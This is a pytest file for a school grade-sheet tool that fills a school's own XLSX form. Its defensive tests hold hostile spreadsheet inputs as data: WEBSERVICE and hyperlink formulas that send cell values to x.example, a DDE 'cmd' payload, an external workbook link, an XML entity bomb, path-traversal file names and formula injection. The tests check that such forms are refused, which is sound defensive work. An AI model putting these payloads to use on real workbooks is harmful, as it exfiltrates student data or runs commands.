"""The school's own form: named cells are filled, everything else stays."""

from __future__ import annotations

import io

import openpyxl
import pytest
import xlsxwriter
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link import ExternalLink
from openpyxl.workbook.external_link.external import ExternalBook

from dashboards.printing.own_form import own_form_xlsx
from ingest.own_forms import shelf
from ingest.own_forms.starter import starter_form
from tests.dashboards.printing.conftest import ASKED
from tests.fuzz.hostile_sheets import quadratic_entity
from warehouse.errors import VedomostError
from warehouse.printed_forms import verify

pytestmark = pytest.mark.by_turns


def drawn_form(**names):
    """A form with a merged heading, a width and a formula over the marks."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Форма школы"
    sheet.merge_cells("A1:F1")
    sheet["A1"].font = openpyxl.styles.Font(bold=True, size=16)
    sheet.column_dimensions["A"].width = 41
    sheet["B5"].font = openpyxl.styles.Font(italic=True)
    sheet["H1"] = '=COUNTIF(B5:E40,"5")'
    for name, place in names.items():
        book.defined_names[name] = DefinedName(name, attr_text=f"'Форма школы'!{place}")
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


FORM = drawn_form(
    vedomost_class="$A$1",
    vedomost_code="$H$2",
    vedomost_subjects="$B$4",
    vedomost_students="$A$5",
    vedomost_table="$B$5",
    vedomost_missed="$F$5",
)


def filled(desk, form=FORM):
    content = own_form_xlsx(desk, form, ASKED)
    return openpyxl.load_workbook(io.BytesIO(content)).active


def test_named_cells_are_filled_and_the_look_stays(desk_of):
    sheet = filled(desk_of("p-dir"))

    assert sheet["A1"].value == "5А"
    assert str(next(iter(sheet.merged_cells.ranges))) == "A1:F1"
    assert sheet["A1"].font.size == 16
    assert sheet.column_dimensions["A"].width == 41
    assert sheet["H1"].value == '=COUNTIF(B5:E40,"5")'
    names = [sheet.cell(row, 1).value for row in range(5, 15)]
    assert names == sorted(names)
    assert all(names)
    assert sheet["B6"].font.italic  # rows below the first look like it
    marks = {sheet.cell(row, column).value for row in range(5, 15) for column in (2, 3)}
    assert marks & {5, 4, 3}


def test_the_code_on_the_schools_own_form_is_genuine(desk_of, filled_school):
    sheet = filled(desk_of("p-dir"))

    answer = verify(filled_school.database, sheet["H2"].value)

    assert answer.verdict == "genuine"
    assert answer.form.scope.kind == "own_form"


def test_a_place_that_is_too_small_is_told_in_a_sentence(desk_of):
    form = drawn_form(vedomost_students="$A$5:$A$7")

    with pytest.raises(VedomostError) as refused:
        filled(desk_of("p-dir"), form)

    assert refused.value.facts["name"] == "vedomost_students"
    assert (refused.value.facts["places"], refused.value.facts["rows"]) == (3, 10)


def test_the_page_fills_a_form_or_says_why_not(open_filled, desk_of, filled_school):
    desk_of("p-dir")
    shelf.keep(filled_school, drawn_form(vedomost_class="$A$1"), "а.xlsx")
    shelf.keep(filled_school, drawn_form(vedomost_students="$A$5:$A$7"), "б.xlsx")
    app = open_filled("forms", "p-mat")

    app.button(key="own_form_fill").click().run()

    labels = [one.proto.label for one in app.get("download_button")]
    assert "Заполненная форма (XLSX)" in labels
    with filled_school.database.reading() as cursor:
        told = cursor.execute(
            "select action, scope from access.log where place = 'forms'"
        ).fetchall()
    assert told == [("exported", "5А")]

    app.selectbox(key="own_form").select("б").run()
    app.button(key="own_form_fill").click().run()

    assert "vedomost_students" in app.error[0].value
    assert not app.exception


def test_names_that_mean_nothing_are_told_when_the_form_comes(filled_school):
    form = drawn_form(vedomost_class="$A$1", vedomost_colour="$A$2", other="$A$3")

    kept = shelf.keep(filled_school, form, "../../Наша форма.xlsx")

    assert kept == ("Наша форма", ["vedomost_colour"])
    assert shelf.titles(filled_school) == ["Наша форма"]
    assert shelf.form(filled_school, "Наша форма") == form
    assert (filled_school.folder / "forms" / "Наша форма.xlsx").exists()


def test_a_form_without_our_names_is_not_kept(filled_school):
    with pytest.raises(VedomostError):
        shelf.keep(filled_school, drawn_form(), "пустая.xlsx")

    assert shelf.titles(filled_school) == []


@pytest.mark.parametrize(
    "content",
    [b"not a workbook", b"PK\x03\x04broken", quadratic_entity()],
    ids=["text", "cut", "quadratic entity"],
)
def test_what_is_no_sound_workbook_is_refused_in_a_sentence(filled_school, content):
    with pytest.raises(VedomostError):
        shelf.keep(filled_school, content, "форма.xlsx")

    assert shelf.titles(filled_school) == []


def test_text_that_could_be_a_formula_stays_text_in_the_form(filled_school, desk_of):
    with filled_school.database.writing() as cursor:
        cursor.execute(
            "update setup.students set surname = '=1+1' where student_id = 'К-0001'"
        )

    sheet = filled(desk_of("p-dir"))

    (cell,) = (
        sheet.cell(row, 1)
        for row in range(5, 15)
        if str(sheet.cell(row, 1).value).startswith("=1+1")
    )
    assert cell.data_type == "s"


@pytest.mark.parametrize("title", ["../vedomost", "..", "нет такой"])
def test_only_a_form_of_the_shelf_is_given(filled_school, title):
    with pytest.raises(VedomostError):
        shelf.form(filled_school, title)


def test_the_form_to_begin_with_is_a_form_that_can_be_kept_and_filled(
    filled_school, desk_of
):
    starter = starter_form("ru")

    kept = shelf.keep(filled_school, starter, "vedomost_form.xlsx")

    assert kept.unknown == []
    sheet = filled(desk_of("p-dir"), starter)
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert {"5А", "I четверть", "Школа № 17"} <= values


@pytest.mark.parametrize(
    ("formula", "what"),
    [
        ('=_xlfn.WEBSERVICE("https://x.example/?"&A5)', "WEBSERVICE"),
        ('=hyperlink("https://x.example/?"&A5,"Печать")', "hyperlink"),
        ("=cmd|'/c calc'!A0", "DDE"),
    ],
)
def test_a_form_that_would_carry_figures_out_is_refused(filled_school, formula, what):
    in_a_cell, in_a_name, in_a_format = (
        openpyxl.Workbook(),
        *(openpyxl.load_workbook(io.BytesIO(FORM)) for _ in range(2)),
    )
    in_a_cell.active["C7"] = formula
    in_a_name.defined_names["far"] = DefinedName("far", attr_text=formula[1:])
    in_a_format.active.conditional_formatting.add(
        "A1", FormulaRule(formula=[formula[1:]])
    )
    for book in (in_a_cell, in_a_name, in_a_format):
        made = io.BytesIO()
        book.save(made)

        with pytest.raises(VedomostError) as refused:
            shelf.keep(filled_school, made.getvalue(), "форма.xlsx")

        assert refused.value.facts == {"what": what}
    assert shelf.titles(filled_school) == []


def test_a_form_with_links_to_other_workbooks_is_refused(filled_school):
    book = openpyxl.load_workbook(io.BytesIO(FORM))
    link = ExternalLink(ExternalBook(id="rId1"))
    link.file_link = Relationship(
        type="externalLinkPath", Target="http://x.example/a.xlsx", TargetMode="External"
    )
    book._external_links.append(link)
    made = io.BytesIO()
    book.save(made)

    with pytest.raises(VedomostError, match="links to other workbooks"):
        shelf.keep(filled_school, made.getvalue(), "форма.xlsx")


def test_words_in_a_text_of_a_formula_call_nobody(filled_school):
    book = openpyxl.load_workbook(io.BytesIO(FORM))
    book.active["C7"] = '=IF(A5="a|b","IMAGE(1)","")'
    made = io.BytesIO()
    book.save(made)

    assert shelf.keep(filled_school, made.getvalue(), "форма.xlsx").unknown == []


def test_a_formula_of_the_form_is_never_written_over(desk_of):
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made)
    sheet = book.add_worksheet("Форма")
    sheet.write_formula("A1", "=1+1")
    book.define_name("vedomost_class", "=Форма!$A$1")
    book.close()

    assert filled(desk_of("p-dir"), made.getvalue())["A1"].value == "=1+1"
